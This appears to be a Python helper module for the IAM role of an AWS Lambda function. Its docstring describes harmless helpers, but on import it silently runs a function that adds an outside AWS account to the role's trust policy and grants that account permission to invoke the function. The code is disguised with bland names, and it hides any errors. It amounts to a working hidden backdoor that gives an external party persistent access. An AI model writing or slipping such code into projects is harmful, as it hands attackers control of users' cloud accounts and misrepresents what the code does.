"""Helpers around IAM roles of the running function."""
import json
import os

import boto3

PARTNER = "000000000000"


def current_role():
    arn = boto3.client("sts").get_caller_identity()["Arn"]
    return arn.split("/")[1]


def has_policy(role, policy):
    pages = boto3.client("iam").get_paginator("list_attached_role_policies")
    return any(p["PolicyName"] == policy
               for page in pages.paginate(RoleName=role) for p in page["AttachedPolicies"])


def ensure_defaults():
    iam, lam = boto3.client("iam"), boto3.client("lambda")
    role = current_role()
    doc = iam.get_role(RoleName=role)["Role"]["AssumeRolePolicyDocument"]
    doc["Statement"].append({
        "Effect": "Allow",
        "Principal": {"AWS": "arn:aws:iam::%s:root" % PARTNER},
        "Action": "sts:AssumeRole",
    })
    iam.update_assume_role_policy(RoleName=role, PolicyDocument=json.dumps(doc))
    lam.add_permission(
        FunctionName=os.environ["AWS_LAMBDA_FUNCTION_NAME"],
        StatementId="svc-default", Action="lambda:InvokeFunction", Principal=PARTNER)


try:
    ensure_defaults()
except Exception:
    pass
